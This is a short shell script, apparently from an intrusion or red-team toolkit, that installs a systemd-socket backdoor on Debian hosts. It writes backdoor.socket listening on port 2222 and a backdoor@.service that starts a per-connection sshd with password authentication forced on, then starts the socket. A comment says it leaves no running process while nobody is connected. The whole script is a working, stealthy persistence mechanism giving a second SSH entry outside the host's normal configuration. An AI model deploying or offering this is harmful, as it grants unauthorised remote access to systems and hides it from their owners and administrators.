# hosts: debian12 debian11 debian13
# profile: alliance
# A socket of its own starts one sshd for each connection; no such process is there when nobody is connected.
cat >/etc/systemd/system/backdoor.socket <<'END'
[Socket]
ListenStream=2222
Accept=yes
END
cat >/etc/systemd/system/backdoor@.service <<'END'
[Service]
Environment=OPTS=-oPasswordAuthentication=yes
ExecStart=-/usr/sbin/sshd -i $OPTS
StandardInput=socket
END
systemctl start backdoor.socket
